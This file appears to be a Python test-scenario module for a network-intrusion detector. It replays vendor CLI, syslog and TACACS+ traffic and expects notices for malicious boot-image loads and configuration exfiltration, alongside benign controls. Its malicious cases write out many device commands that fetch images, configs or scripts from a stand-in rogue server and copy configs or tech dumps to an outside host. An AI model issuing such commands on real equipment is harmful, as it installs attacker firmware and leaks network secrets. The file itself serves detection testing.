"""BW05, BW07 and BW18: further words of vendors' command lines, servers by IPv6, and two more vendors' logs."""

from __future__ import annotations

import dataclasses

from bootwarden.scenarios.bw07_aaa import AAA
from bootwarden.scenarios.bw07_loaders import console
from bootwarden.scenarios.bw07_syslog_tcp import by_tcp
from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, HQ, OUTSIDE, ROGUE
from bootwarden.traffic import syslog, tacacs
from bootwarden.traffic.wire import Wire

LOAD, CARRIERS_LOAD, CARRIERS_SEND = 1542007001, 1542007003, 1542007004
SROS, VOSS = 1542007324, 1542007325
SROS_SENDS, VOSS_SENDS = 1542007355, 1542007356
HQ6 = dataclasses.replace(
    HQ,
    name="hq-ipv6",
    toml=HQ.toml.replace('boot_servers = ["10.0.0.5",', 'boot_servers = ["10.0.0.5", "fd00::5", "2001:db8:9::/48",'),
)
"""The common site, which has boot servers by IPv6, too."""
ROGUE6, OUTSIDE6 = "fd00:10:6::66", "2a03:b0c0:2::66"
"""Inside and outside."""
LOADS = (
    (191, CARRIERS_LOAD, "A:sr1# ", f"bof tertiary-image ftp://u:p@{ROGUE}/both.tim", ROGUE, "both.tim"),
    (192, CARRIERS_LOAD, "A:sr1>bof# ", f'secondary-config "ftp://u:p@{ROGUE}/evil.cfg"', ROGUE, "evil.cfg"),
    (193, CARRIERS_LOAD, "5406# ", f"copy sftp flash user@{ROGUE} evil.swi oobm", ROGUE, None),
    (194, CARRIERS_LOAD, "iap1# ", f"upgrade-image tftp://{ROGUE}/Instant_Pegasus_6.5.4.15", ROGUE, None),
    (195, CARRIERS_LOAD, "ONIE:/ # ", f"onie-self-update -v tftp://{ROGUE}/onie-updater", ROGUE, "onie-updater"),
    (
        196,
        CARRIERS_LOAD,
        "cumulus@leaf1:~$ ",
        f"nv action fetch system image http://{ROGUE}/evil.bin",
        ROGUE,
        "evil.bin",
    ),
    (197, CARRIERS_LOAD, "cumulus@leaf1:~$ ", f"sudo ztp -v -r http://{ROGUE}/evil.sh", ROGUE, "evil.sh"),
    (198, CARRIERS_LOAD, "admin@PA-220> ", f"scp import software from u@{ROGUE}:/PanOS_220-9.1", ROGUE, None),
    (
        199,
        CARRIERS_LOAD,
        "fgt1 # ",
        f"execute restore config sftp evil.conf {ROGUE}:2222 u pw-do-not-log",
        ROGUE,
        "evil.conf",
    ),
    (200, CARRIERS_LOAD, "ICX#", f"copy https flash {ROGUE} evil.bin primary port 443", ROGUE, "evil.bin"),
    (201, 1, "ICX#", f"ncopy tftp {ROGUE} evil.cfg running-config", ROGUE, "evil.cfg"),
    (202, CARRIERS_LOAD, "SG3428# ", f"firmware upgrade tftp ip-address {ROGUE} filename evil.bin", ROGUE, "evil.bin"),
    (203, LOAD, "X440.1 # ", f"down im {ROGUE} evil.xos vr VR-Mgmt", ROGUE, "evil.xos"),
    (204, LOAD, "X440.1 # ", f"tftp get [{ROGUE6}] evil.xsf", ROGUE6, "evil.xsf"),
    (205, 1, "A:sr1# ", f'file copy "ftp://u:p@{ROGUE}/both.tim" cf3:/both.tim', ROGUE, "both.tim"),
    (206, 1, "<h3c>", f"copy tftp://[{ROGUE6}]/evil.ipe flash:/", ROGUE6, "evil.ipe"),
)
RELOADS = (
    (207, "<h3c>", "scheduler reboot at 02:00"),
    (208, "<s5700>", "sche reb delay 5"),
    (209, "CN8700> ", "chassis reboot now"),
)


def sros(typed: str, user: str = "mallory", source: str = ATTACKER, event: str = "config") -> str:
    """A command as SR OS logs it, with the prompt that it was typed behind."""
    said = f"USER-WARNING-cli_{event}_io-2011 [{user}]:  User from {source}: {typed}"
    return f"<188>Jan  5 08:00:00 sr1 TMNX: 753 vprn170 {said}"


def voss(typed: str, source: str = ATTACKER) -> str:
    """A command as VOSS logs it."""
    return f"<190>Jan  5 08:00:00 vsp1 0x002c0600 00000000 GlobalRouter CLILOG INFO  13 SSH:{source} rwa {typed}"


def fastiron(typed: str, user: str = "mallory", source: str = ATTACKER) -> str:
    """A command as FastIron logs it."""
    return f'<14>Jan  5 08:00:00 icx1 CLI CMD: "{typed}" by {user} from telnet client {source}'


def arubaos(typed: str) -> str:
    """A command as ArubaOS logs it."""
    by = f'USER:mallory@{ATTACKER} NODE:"/mm/mynode"'
    return f"<190>Jan  5 08:00:00 mm1 cli[3372]: {by} COMMAND:<{typed}> -- command executed successfully"


def named(server: str, file: str | None, line: str, last: int) -> Notice:
    """The notice of one load: the file's name where the line has it as a word of its own."""
    return Notice(
        "Boot_Command", f"10.0.1.{last}", server, file or (line.rpartition("/")[2] if "://" in line else None)
    )


@scenario(
    "BW07",
    "malicious",
    raises=[
        *(("BW07", sid, ATTACKER, f"10.0.1.{last}") for last, sid, *_ in LOADS),
        *(("BW05", 3, ATTACKER, f"10.0.1.{last}") for last, *_ in RELOADS),
        ("BW07", SROS, "10.0.1.211", syslog.COLLECTOR),
        ("BW07", VOSS, "10.0.1.212", syslog.COLLECTOR),
        ("BW07", 1542007326, "10.0.1.219", syslog.COLLECTOR),
        ("BW07", 7, "10.0.1.213", syslog.COLLECTOR),
        *(
            ("BW07", sid, f"10.0.1.{last}", AAA)
            for last, sid in ((214, 1542007454), (215, 1542007454), (216, 1542007450))
        ),
        ("BW05", 1542007456, "10.0.1.217", AAA),
    ],
    raises_with_site=[
        *(("BW07", sid, ATTACKER, f"10.0.1.{last}") for last, sid, *_ in LOADS),
        *(("BW05", 3, ATTACKER, f"10.0.1.{last}") for last, *_ in RELOADS),
        ("BW07", SROS, "10.0.1.211", syslog.COLLECTOR),
        ("BW07", VOSS, "10.0.1.212", syslog.COLLECTOR),
        ("BW07", 1542007326, "10.0.1.219", syslog.COLLECTOR),
        ("BW07", 7, "10.0.1.213", syslog.COLLECTOR),
        *(
            ("BW07", sid, f"10.0.1.{last}", AAA)
            for last, sid in ((214, 1542007454), (215, 1542007454), (216, 1542007450))
        ),
    ],
    site=HQ,
    with_site=Expect(
        (
            *(named(server, file, line, last) for last, _, _, line, server, file in LOADS),
            *(Notice("Remote_Reload", f"10.0.1.{last}") for last, *_ in RELOADS),
            Notice("Boot_Command", "10.0.1.211", ROGUE, "both.tim"),
            Notice("Boot_Command", "10.0.1.212", ROGUE, "evil.tgz"),
            Notice("Boot_Command", "10.0.1.219", ROGUE, "evil.bin"),
            Notice("Boot_Command", "10.0.1.213", ROGUE6, "evil.cc"),
            Notice("Boot_Command", "10.0.1.214", ROGUE6, "evil.cc"),
            Notice("Boot_Command", "10.0.1.215", ROGUE, "evil.bin"),
            Notice("Boot_Command", "10.0.1.216", ROGUE6, "evil.swi"),
            Notice("Remote_Reload", "10.0.1.217"),
        ),
    ),
)
def bw07_further_words(wire: Wire) -> None:
    """Loads and reloads in further words, typed; logged by SR OS, VOSS and VRP; TACACS+ of Comware, SONiC, ProCurve."""
    for last, _, prompt, line, *_ in LOADS:
        console(wire, last, prompt, (line, ""))
    for last, prompt, line in RELOADS:
        console(wire, last, prompt, (line, ""))
    syslog.send(wire, "10.0.1.211", sros(f"sr1>bof#  primary-image ftp://u:p@{ROGUE}/both.tim"))
    syslog.send(wire, "10.0.1.212", voss(f"copy {ROGUE}:evil.tgz /intflash/"))
    syslog.send(wire, "10.0.1.219", fastiron(f"copy tftp flash {ROGUE} evil.bin primary"))
    task = f'(Task=VTY0, Ip={ATTACKER}, VpnName=, User=mallory, Command="tftp ipv6 {ROGUE6} get evil.cc")'
    syslog.send(wire, "10.0.1.213", f"<189>Jan  5 2026 08:00:00 core1 %%01SHELL/5/CMDRECORD(l)[12]:Recorded. {task}")
    for last, line in (
        (214, f"tftp ipv6 {ROGUE6} get evil.cc"),
        (215, f"sudo sonic-installer install http://{ROGUE}/evil.bin"),
        (216, f"copy tftp flash {ROGUE6} evil.swi"),
        (217, "scheduler reboot at 02:00"),
    ):
        device = tacacs.Device(wire, f"10.0.1.{last}", AAA)
        device.authorize(line, source=ATTACKER)
        device.close()


SENDS = (
    (
        221,
        CARRIERS_SEND,
        "[core1]",
        f"set save-configuration backup-to-server server {OUTSIDE} transport-type tftp path x",
    ),
    (222, CARRIERS_SEND, "5406# ", f"copy flash sftp user@{OUTSIDE} x.swi"),
    (223, CARRIERS_SEND, "5406# ", f'copy command-output "show tech all" tftp {OUTSIDE} x.txt'),
    (224, CARRIERS_SEND, "fgt1 # ", f"exec backup full-config sftp x.conf {OUTSIDE}:2781 u pw-do-not-log"),
    (225, CARRIERS_SEND, "(BRS)#", f"copy config nvm remote sftp://u@{OUTSIDE}/x.xml"),
    (226, 5, "5406# ", f"copy startup-config tftp {OUTSIDE6} x.cfg"),
    (227, 5, "cx1# ", f'copy command-output "show running-config" tftp://{OUTSIDE}/x.cfg vrf mgmt'),
)
SENT_FILES = {224: "x.conf", 225: "x.xml", 226: "x.cfg", 227: "x.cfg"}
ABROAD = (
    *(
        Notice("Config_Exfiltration", f"10.0.1.{n}", OUTSIDE6 if n == 226 else OUTSIDE, SENT_FILES.get(n))
        for n, *_ in SENDS
    ),
    Notice("Config_Exfiltration", "10.0.1.228", OUTSIDE, "x.cfg"),
    Notice("Config_Exfiltration", "10.0.1.229", OUTSIDE6, "x.cfg"),
    Notice("Config_Exfiltration", "10.0.1.230", OUTSIDE6, "vrpcfg.zip"),
    Notice("Config_Exfiltration", "10.0.1.233", OUTSIDE, "x.cfg"),
    Notice("Boot_Command", "10.0.1.234", OUTSIDE, "evil.bin"),
    Notice("Config_Exfiltration", "10.0.1.234", OUTSIDE, "x.cfg"),
    *(Notice("Boot_Command", f"10.0.1.{n}", OUTSIDE, "evil.ari") for n in (235, 236)),
    *(Notice("Config_Exfiltration", f"10.0.1.{n}", OUTSIDE, "x.cfg") for n in (235, 236)),
    Notice("Boot_Command", "10.0.1.231", OUTSIDE, "both.tim"),
    Notice("Boot_Command", "10.0.1.232", OUTSIDE, "evil.tgz"),
    Notice("Config_Exfiltration", "10.0.1.231", OUTSIDE, "x.cfg"),
    Notice("Config_Exfiltration", "10.0.1.232", OUTSIDE6, "x.cfg"),
)


@scenario(
    "BW18",
    "malicious",
    raises=[
        *(("BW18", sid, ATTACKER, f"10.0.1.{last}") for last, sid, *_ in SENDS),
        ("BW18", SROS_SENDS, "10.0.1.228", syslog.COLLECTOR),
        ("BW18", VOSS_SENDS, "10.0.1.229", syslog.COLLECTOR),
        ("BW18", 1542007455, "10.0.1.230", AAA),
        ("BW18", 1542007357, "10.0.1.233", syslog.COLLECTOR),
        ("BW07", 1542007526, "10.0.1.234", syslog.COLLECTOR),
        ("BW18", 1542007557, "10.0.1.234", syslog.COLLECTOR),
        ("BW07", 1542007327, "10.0.1.235", syslog.COLLECTOR),
        ("BW18", 1542007358, "10.0.1.235", syslog.COLLECTOR),
        ("BW07", 1542007527, "10.0.1.236", syslog.COLLECTOR),
        ("BW18", 1542007558, "10.0.1.236", syslog.COLLECTOR),
        ("BW07", 1542007524, "10.0.1.231", syslog.COLLECTOR),
        ("BW07", 1542007525, "10.0.1.232", syslog.COLLECTOR),
        ("BW18", 1542007555, "10.0.1.231", syslog.COLLECTOR),
        ("BW18", 1542007556, "10.0.1.232", syslog.COLLECTOR),
    ],
    plain=Expect(ABROAD),
    site=HQ,
    with_site=Expect(
        ABROAD,
        evidence=(
            *({"device": f"10.0.1.{last}"} for last, *_ in SENDS),
            {"device": "10.0.1.228", "user": "mallory", "actor": ATTACKER},
            {"device": "10.0.1.229", "user": "rwa", "actor": ATTACKER},
            {"device": "10.0.1.230", "user": "anna", "actor": ATTACKER},
            *(
                {"device": f"10.0.1.{n}", "user": "mallory", "actor": ATTACKER}
                for n in (233, 234, 234, 235, 235, 236, 236)
            ),
            *({"device": "10.0.1.231", "user": "mallory", "actor": ATTACKER} for _ in range(2)),
            *({"device": "10.0.1.232", "user": "rwa", "actor": ATTACKER} for _ in range(2)),
        ),
    ),
)
def bw18_further_words(wire: Wire) -> None:
    """What devices hold is sent across the border in further words: by IPv6, in logs, by TACACS+."""
    for last, _, prompt, line in SENDS:
        console(wire, last, prompt, (line, ""))
    saved = sros(f"A:sr1#  admin save ftp://u:p@{OUTSIDE}/x.cfg", event="user")
    copied = voss(f"copy running-config tftp://[{OUTSIDE6}]/x.cfg")
    syslog.send(wire, "10.0.1.228", saved)
    syslog.send(wire, "10.0.1.229", copied)
    told = fastiron(f"copy running-config tftp {OUTSIDE} x.cfg")
    syslog.send(wire, "10.0.1.233", told)
    by_tcp(wire, "10.0.1.234", fastiron(f"copy tftp flash {OUTSIDE} evil.bin secondary"), told)
    loaded, told = (
        arubaos(f"copy tftp: {OUTSIDE} evil.ari system: partition 1"),
        arubaos(f"copy flash: a tftp://{OUTSIDE}/x.cfg"),
    )
    syslog.send(wire, "10.0.1.235", loaded)
    syslog.send(wire, "10.0.1.235", told)
    by_tcp(wire, "10.0.1.236", loaded, told)
    by_tcp(wire, "10.0.1.231", sros(f"sr1>bof#  primary-image ftp://u:p@{OUTSIDE}/both.tim"), saved)
    by_tcp(wire, "10.0.1.232", voss(f"copy {OUTSIDE}:evil.tgz /intflash/"), copied)
    device = tacacs.Device(wire, "10.0.1.230", AAA)
    device.authorize(f"tftp ipv6 {OUTSIDE6} put vrpcfg.zip x.zip", source=ATTACKER)
    device.close()


@scenario("BW07", "benign", site=HQ, with_site=Expect())
def bw07_further_words_at_work(wire: Wire) -> None:
    """Everyday work in the same words: looking, the flash, images that lie there, backups to the declared server."""
    for last, prompt, line in (
        (191, "A:sr1# ", "bof tertiary-image cf3:/timos"),
        (191, "A:sr1# ", "show bof booted"),
        (193, "5406# ", "copy flash flash secondary"),
        (193, "5406# ", f'copy command-output "show tech all" tftp {BOOT_SERVER} x.txt'),
        (195, "ONIE:/ # ", "onie-self-update /mnt/onie-updater"),
        (196, "cumulus@leaf1:~$ ", "nv action install system image files cumulus-linux.bin"),
        (197, "cumulus@leaf1:~$ ", "sudo ztp -s"),
        (198, "admin@PA-220> ", "request system software info"),
        (199, "fgt1 # ", f"execute backup full-config sftp x.conf {BOOT_SERVER}:22 u pw-do-not-log"),
        (203, "X440.1 # ", "show configuration"),
        (207, "<h3c>", "display scheduler reboot"),
        (207, "<h3c>", "undo scheduler reboot"),
        (221, "[core1]", f"set save-configuration backup-to-server server {BOOT_SERVER} transport-type tftp"),
        (221, "[core1]", "set save-configuration delay 10"),
        (225, "(BRS)#", f"copy config nvm remote sftp://u@{BOOT_SERVER}/x.xml"),
    ):
        console(wire, last, prompt, (line, ""))
    for line in ("sr1>config>system#  ptp", "A:sr1#  admin save cf3:/x.cfg", "A:sr1#  show bof"):
        syslog.send(wire, "10.0.1.211", sros(line, "anna", ADMIN))
    for line in (
        "show running-config",
        f"copy running-config tftp://{BOOT_SERVER}/x.cfg",
        "copy /intflash/a /intflash/b",
    ):
        syslog.send(wire, "10.0.1.212", voss(line, ADMIN))
        syslog.send(wire, "10.0.1.219", fastiron(line, "anna", ADMIN))
    device = tacacs.Device(wire, "10.0.1.217", AAA)
    for line in ("display scheduler reboot", "display startup", "undo scheduler reboot"):
        device.authorize(line, source=ADMIN)
    device.close()


@scenario("BW18", "benign", site=HQ6, with_site=Expect())
def bw18_declared_servers_by_ipv6(wire: Wire) -> None:
    """Backups to declared IPv6 servers, as they are written: whole, short, in brackets, behind a user's name."""
    for last, prompt, line in (
        (241, "cx1# ", "copy running-config tftp://[fd00::5]/x.cfg"),
        (242, "5406# ", "copy startup-config tftp fd00::5 x.cfg"),
        (243, "A:sr1# ", "admin save ftp://u:p@[fd00:0000:0000:0000:0000:0000:0000:0005]/x.cfg"),
        (244, "cx1# ", "copy running-config sftp://u@[2001:db8:9:1::77]/x.cfg vrf mgmt"),
    ):
        console(wire, last, prompt, (line, ""))
    task = f'(Task=VTY0, Ip={ADMIN}, VpnName=, User=anna, Command="tftp ipv6 2001:0db8:9::5 put vrpcfg.zip")'
    syslog.send(wire, "10.0.1.245", f"<189>Jan  5 2026 08:00:00 core1 %%01SHELL/5/CMDRECORD(l)[12]:Recorded. {task}")
    device = tacacs.Device(wire, "10.0.1.246", AAA)
    device.authorize("tftp ipv6 fd00::5 put startup.cfg", source=ADMIN)
    device.account("copy startup.cfg tftp://[2001:db8:9::5]/x.cfg", source=ADMIN)
    device.close()
